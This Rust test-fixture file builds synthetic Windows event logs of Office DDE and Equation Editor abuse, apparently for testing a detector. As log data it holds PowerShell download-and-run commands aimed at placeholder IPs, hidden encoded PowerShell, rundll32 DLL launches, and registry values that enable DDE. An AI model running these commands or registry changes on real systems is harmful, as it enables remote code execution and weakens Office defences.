//! EVTX fixtures that hold traces of DDE abuse: Office applications starting shells and
//! LOLBins (Sysmon 1, Security 4688), the Equation Editor, registry writes that enable DDE
//! (Sysmon 12/13, Security 4657), Office alert prompts (OAlerts 300), and Office processes
//! loading or connecting where they should not (Sysmon 7, 3).

use crate::evtx::{EvtxEvent, EvtxWriter};
use crate::evtx_events::*;
use crate::evtx_security::{NewProcess, ValueChange, oalerts_300, security_4657, security_4688};

/// The log of `events`, in order.
pub fn log(events: impl IntoIterator<Item = EvtxEvent<'static>>) -> Vec<u8> {
    EvtxWriter::new()
        .push_all(events)
        .and_then(EvtxWriter::finish)
        .expect("fixture events hold valid GUIDs, SIDs and short values")
}

/// Word's command line opening the invoice.
pub const WINWORD_INVOICE: &str = r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Downloads\Invoice_2291.docx" /o """#;
/// Explorer's command line.
pub const EXPLORER_CMDLINE: &str = "C:\\Windows\\Explorer.EXE";

/// Explorer (2044), process GUID seed 0x101.
pub const EXPLORER_PROC: Proc<'static> = Proc::new(EXPLORER, EXPLORER_CMDLINE, 2044, 0x101);
/// Word opening the invoice (4412), GUID seed 0x102.
pub const WORD_INVOICE_PROC: Proc<'static> = Proc::new(WINWORD, WINWORD_INVOICE, 4412, 0x102);

/// `sysmon-1-office-child.evtx`: seven Sysmon 1 records by alice, each with Hashes.
///
/// | id | parent (pid) | child (pid) | child ProcessGuid |
/// |----|--------------|-------------|-------------------|
/// | 1 | explorer.exe (2044) `{B2796A13-4D21-65E5-0000-000000000101}` | WINWORD.EXE (4412) | `{B2796A13-4D21-65E5-0000-000000000102}` |
/// | 2 | WINWORD.EXE (4412) | cmd.exe (5120) `/k calc.exe` | `{B2796A13-4D21-65E5-0000-000000000103}` |
/// | 3 | EXCEL.EXE (3320) `{..-000000000104}` | powershell.exe (6232) `-Enc ...` | `{B2796A13-4D21-65E5-0000-000000000105}` |
/// | 4 | OUTLOOK.EXE (2980) `{..-000000000106}` | `...\Outlook Files\invoice.exe` (7004) | `{B2796A13-4D21-65E5-0000-000000000107}` |
/// | 5 | EXCEL.EXE (3320) | tableau.exe (7290) | `{B2796A13-4D21-65E5-0000-000000000108}` |
/// | 6 | WINWORD.EXE (4412) | WMIC.exe (7516) `process call create` | `{B2796A13-4D21-65E5-0000-000000000109}` |
/// | 7 | POWERPNT.EXE (5536) `{..-00000000010A}` | rundll32.exe (7720) | `{B2796A13-4D21-65E5-0000-00000000010B}` |
pub fn sysmon_1_office_child() -> Vec<u8> {
    log(sysmon_1_office_child_events())
}

/// The events of [`sysmon_1_office_child`].
pub fn sysmon_1_office_child_events() -> Vec<EvtxEvent<'static>> {
    const EXCEL_P: Proc<'static> = Proc::new(
        EXCEL,
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE""#,
        3320,
        0x104,
    );
    const OUTLOOK_P: Proc<'static> = Proc::new(
        OUTLOOK,
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
        2980,
        0x106,
    );
    const POWERPNT_P: Proc<'static> = Proc::new(
        POWERPNT,
        r#""C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE""#,
        5536,
        0x10a,
    );
    const INVOICE_EXE: &str = r"C:\Users\alice\AppData\Local\Temp\Outlook Files\invoice.exe";
    const TABLEAU: &str = r"C:\Program Files\Tableau\Tableau 2023.1\bin\tableau.exe";
    let pairs: [(Proc<'static>, Proc<'static>); 7] = [
        (WORD_INVOICE_PROC, EXPLORER_PROC),
        (
            Proc::new(CMD, r"C:\Windows\System32\cmd.exe /k calc.exe", 5120, 0x103),
            WORD_INVOICE_PROC,
        ),
        (
            Proc::new(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell.exe -NoP -sta -NonI -W Hidden -Enc JABjAD0AbgBlAHcALQBvAGIAagBlAGMAdAA=",
                6232,
                0x105,
            ),
            EXCEL_P,
        ),
        (
            Proc::new(
                INVOICE_EXE,
                r#""C:\Users\alice\AppData\Local\Temp\Outlook Files\invoice.exe""#,
                7004,
                0x107,
            ),
            OUTLOOK_P,
        ),
        (
            Proc::new(
                TABLEAU,
                r#""C:\Program Files\Tableau\Tableau 2023.1\bin\tableau.exe""#,
                7290,
                0x108,
            ),
            EXCEL_P,
        ),
        (
            Proc::new(
                r"C:\Windows\System32\wbem\WMIC.exe",
                r#"wmic process call create "cmd.exe /c calc.exe""#,
                7516,
                0x109,
            ),
            WORD_INVOICE_PROC,
        ),
        (
            Proc::new(
                r"C:\Windows\System32\rundll32.exe",
                r"rundll32.exe C:\Users\Public\lib.dll,DllRegisterServer",
                7720,
                0x10b,
            ),
            POWERPNT_P,
        ),
    ];
    pairs
        .iter()
        .enumerate()
        .map(|(i, (child, parent))| sysmon_1(i as u64 + 1, at(i as u64), child, parent))
        .collect()
}

/// `renamed-log.dat`: [`sysmon_1_office_child`] under a name without `.evtx`.
pub fn renamed_log() -> Vec<u8> {
    sysmon_1_office_child()
}

/// `sysmon-1-eqnedt.evtx`: 1 svchost (DcomLaunch, 868) -> EQNEDT32.EXE (2716, GUID seed
/// 0x201); 2 EQNEDT32 -> `C:\Users\Public\vbc.exe` (3904, 0x202); 3 EQNEDT32 -> cmd.exe
/// (4020, 0x203) starting PowerShell that downloads from 203.0.113.50.
pub fn sysmon_1_eqnedt() -> Vec<u8> {
    const DCOM: Proc<'static> = Proc::new(
        SVCHOST,
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        868,
        0x200,
    )
    .as_user(SYSTEM);
    const EQ: Proc<'static> = Proc::new(
        EQNEDT,
        r#""C:\Program Files (x86)\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE" -Embedding"#,
        2716,
        0x201,
    );
    let pairs = [
        (EQ, DCOM),
        (
            Proc::new(
                r"C:\Users\Public\vbc.exe",
                r"C:\Users\Public\vbc.exe",
                3904,
                0x202,
            ),
            EQ,
        ),
        (
            Proc::new(
                CMD,
                r#"cmd.exe /c powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/p.ps1')""#,
                4020,
                0x203,
            ),
            EQ,
        ),
    ];
    log(pairs
        .iter()
        .enumerate()
        .map(|(i, (child, parent))| sysmon_1(i as u64 + 1, at(i as u64), child, parent)))
}

/// `sysmon-1-lookalike.evtx`: 1 explorer.exe -> a `WINWORD.exe` in alice's roaming profile
/// (6100, GUID seed 0x301); 2 that WINWORD.exe -> rundll32.exe (6232, 0x302) running a DLL
/// next to it.
pub fn sysmon_1_lookalike() -> Vec<u8> {
    const FAKE: Proc<'static> = Proc::new(
        r"C:\Users\alice\AppData\Roaming\Microsoft\Office\WINWORD.exe",
        r#""C:\Users\alice\AppData\Roaming\Microsoft\Office\WINWORD.exe""#,
        6100,
        0x301,
    );
    let child = Proc::new(
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\alice\AppData\Roaming\Microsoft\Office\wwlib.dll,Start",
        6232,
        0x302,
    );
    log([
        sysmon_1(1, at(0), &FAKE, &EXPLORER_PROC),
        sysmon_1(2, at(1), &child, &FAKE),
    ])
}

/// `security-4688-v2.evtx` (version 2, alice, logon 0x3e5a1): 1 explorer -> WINWORD.EXE
/// (0x1a2c) opening the invoice; 2 WINWORD.EXE (0x1a2c) -> cmd.exe (0x1b40) starting
/// PowerShell that downloads from 198.51.100.7.
pub fn security_4688_v2() -> Vec<u8> {
    log(security_4688_v2_events(1, 1))
}

/// The two events of [`security_4688_v2`] with ids `first_id` and `first_id + 1`, at
/// [`START`] and `gap` seconds later.
pub fn security_4688_v2_events(first_id: u64, gap: u64) -> Vec<EvtxEvent<'static>> {
    let word = NewProcess {
        new_process_id: 0x1a2c,
        new_process_name: WINWORD,
        process_id: 0x7fc,
        command_line: WINWORD_INVOICE,
        parent_process_name: EXPLORER,
        logon: ALICE_LOGON,
    };
    let cmd = NewProcess {
        new_process_id: 0x1b40,
        new_process_name: CMD,
        process_id: 0x1a2c,
        command_line: "cmd.exe /c powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
        parent_process_name: WINWORD,
        logon: ALICE_LOGON,
    };
    vec![
        security_4688(first_id, at(0), 2, &word),
        security_4688(first_id + 1, at(gap), 2, &cmd),
    ]
}

/// `security-4688-v1.evtx` (version 1, no ParentProcessName), record ids 10..13: 10 EXCEL.EXE
/// (0xb48, creator 0xa10) opening Payment_Advice.xlsx; 11 notepad.exe reusing id 0xb48
/// (creator 0x2f0) under SYSTEM's logon 0x3e7; 12 cmd.exe (0xc1c) whose creator is 0xb48;
/// 13 cmd.exe (0xd00) whose creator 0x1ff0 appears in no earlier record.
pub fn security_4688_v1() -> Vec<u8> {
    const EXCEL15: &str = r"C:\Program Files\Microsoft Office\Office15\EXCEL.EXE";
    let records = [
        NewProcess {
            new_process_id: 0xb48,
            new_process_name: EXCEL15,
            process_id: 0xa10,
            command_line: r#""C:\Program Files\Microsoft Office\Office15\EXCEL.EXE" "C:\Users\alice\Downloads\Payment_Advice.xlsx""#,
            parent_process_name: "",
            logon: ALICE_LOGON,
        },
        NewProcess {
            new_process_id: 0xb48,
            new_process_name: r"C:\Windows\System32\notepad.exe",
            process_id: 0x2f0,
            command_line: r"C:\Windows\System32\notepad.exe",
            parent_process_name: "",
            logon: SYSTEM_LOGON,
        },
        NewProcess {
            new_process_id: 0xc1c,
            new_process_name: CMD,
            process_id: 0xb48,
            command_line: "cmd.exe /c calc.exe",
            parent_process_name: "",
            logon: ALICE_LOGON,
        },
        NewProcess {
            new_process_id: 0xd00,
            new_process_name: CMD,
            process_id: 0x1ff0,
            command_line: "cmd.exe /c whoami",
            parent_process_name: "",
            logon: ALICE_LOGON,
        },
    ];
    log(records
        .iter()
        .enumerate()
        .map(|(i, p)| security_4688(10 + i as u64, at(i as u64), 1, p)))
}

/// Alice's `HKU\<sid>` root.
pub fn hku(rest: &str) -> String {
    format!("HKU\\{ALICE_SID}\\{rest}")
}

/// The COM compatibility key of the Equation Editor's CLSID.
pub const EQNEDT_COMPAT: &str =
    r"SOFTWARE\Microsoft\Office\Common\COM Compatibility\{0002CE02-0000-0000-C000-000000000046}";

/// `sysmon-13-dde-registry.evtx`: reg.exe (5804, GUID seed 0x401) writes, as alice: 1 Word
/// AllowDDE = 1; 2 AllowDDE = 2; 3 Excel DisableDDEServerLaunch = 0; 4 the Excel policy
/// DisableDDEServerLookup = 0; 5 Word DontUpdateLinks = 0; 6 (as SYSTEM) the Equation
/// Editor's Compatibility Flags = 0; 7 (Sysmon 12, SYSTEM) DeleteKey of the WOW6432Node
/// Equation Editor compatibility key.
pub fn sysmon_13_dde_registry() -> Vec<u8> {
    const REG: &str = r"C:\Windows\System32\reg.exe";
    let alice = Proc::new(REG, "reg.exe add", 5804, 0x401);
    let system = alice.as_user(SYSTEM);
    let word_sec = hku(r"Software\Microsoft\Office\16.0\Word\Security\AllowDDE");
    let values = [
        (alice, word_sec.clone(), "DWORD (0x00000001)"),
        (alice, word_sec, "DWORD (0x00000002)"),
        (
            alice,
            hku(r"Software\Microsoft\Office\16.0\Excel\Security\DisableDDEServerLaunch"),
            "DWORD (0x00000000)",
        ),
        (
            alice,
            hku(
                r"Software\Policies\Microsoft\Office\16.0\Excel\Security\External Content\DisableDDEServerLookup",
            ),
            "DWORD (0x00000000)",
        ),
        (
            alice,
            hku(r"Software\Microsoft\Office\16.0\Word\Options\DontUpdateLinks"),
            "DWORD (0x00000000)",
        ),
        (
            system,
            format!("HKLM\\{EQNEDT_COMPAT}\\Compatibility Flags"),
            "DWORD (0x00000000)",
        ),
    ];
    let mut events: Vec<EvtxEvent<'static>> = values
        .iter()
        .enumerate()
        .map(|(i, (p, key, details))| sysmon_13(i as u64 + 1, at(i as u64), p, key, details))
        .collect();
    let wow = r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Office\Common\COM Compatibility\{0002CE02-0000-0000-C000-000000000046}";
    events.push(sysmon_12(7, at(6), &system, "DeleteKey", wow));
    log(events)
}

/// Word's security key under `\REGISTRY\USER\<alice>`.
pub fn registry_user(rest: &str) -> String {
    format!("\\REGISTRY\\USER\\{ALICE_SID}\\{rest}")
}

/// `security-4657-dde-registry.evtx`: 1 regedit.exe (0x1e4c) changes Word's AllowDDE from 0
/// to 2.
pub fn security_4657_dde_registry() -> Vec<u8> {
    let key = registry_user(r"Software\Microsoft\Office\16.0\Word\Security");
    let change = ValueChange {
        object_name: &key,
        value_name: "AllowDDE",
        old_value: "0",
        new_value: "2",
        process_id: 0x1e4c,
        process_name: r"C:\Windows\regedit.exe",
    };
    log([security_4657(1, at(0), &change)])
}

/// `sysmon-3-eqnedt-network.evtx`: 1 EQNEDT32.EXE (2716) connects over TCP to
/// 203.0.113.50:80 (`cdn.bad.example`), as alice.
pub fn sysmon_3_eqnedt_network() -> Vec<u8> {
    let eq = Proc::new(EQNEDT, "", 2716, 0x201);
    let conn = Conn {
        protocol: "tcp",
        source_ip: "10.0.0.23",
        source_port: 49712,
        destination_ip: "203.0.113.50",
        destination_hostname: "cdn.bad.example",
        destination_port: 80,
    };
    log([sysmon_3(1, at(0), &eq, &conn)])
}

/// `sysmon-7-office-module.evtx`: 1 WINWORD.EXE (4412) loads an unsigned `wwlib.dll` from
/// alice's Temp folder (Signed `false`, SignatureStatus `Unavailable`).
pub fn sysmon_7_office_module() -> Vec<u8> {
    let dll = r"C:\Users\alice\AppData\Local\Temp\wwlib.dll";
    log([sysmon_7(1, at(0), &WORD_INVOICE_PROC, dll, false)])
}

/// The Word prompt to update links (OAlerts item list).
pub const OALERT_WORD_LINKS: [&str; 6] = [
    "Microsoft Word",
    "This document contains links that may refer to other files. Do you want to update this document with the data from the linked files?",
    "",
    "200054",
    "16.0.10827.20181",
    "",
];

/// The Excel prompt to start `CMD.EXE` for remote data (OAlerts item list).
pub const OALERT_EXCEL_DDE: [&str; 6] = [
    "Microsoft Excel",
    "Remote data not accessible. To access this data Excel needs to start another application. Some legitimate applications on your computer could be used maliciously to spread viruses or damage your computer. Only click Yes if you trust the source of this workbook and you want to let the workbook start the application. Start application 'CMD.EXE'?",
    "",
    "300090",
    "16.0.10827.20181",
    "",
];

/// `oalerts-300.evtx`: 1 Word's update-links prompt; 2 Excel's prompt to start CMD.EXE.
/// Empty items are Null substitutions (rendered as empty strings).
pub fn oalerts_300_log() -> Vec<u8> {
    log([
        oalerts_300(1, at(0), &OALERT_WORD_LINKS),
        oalerts_300(2, at(1), &OALERT_EXCEL_DDE),
    ])
}
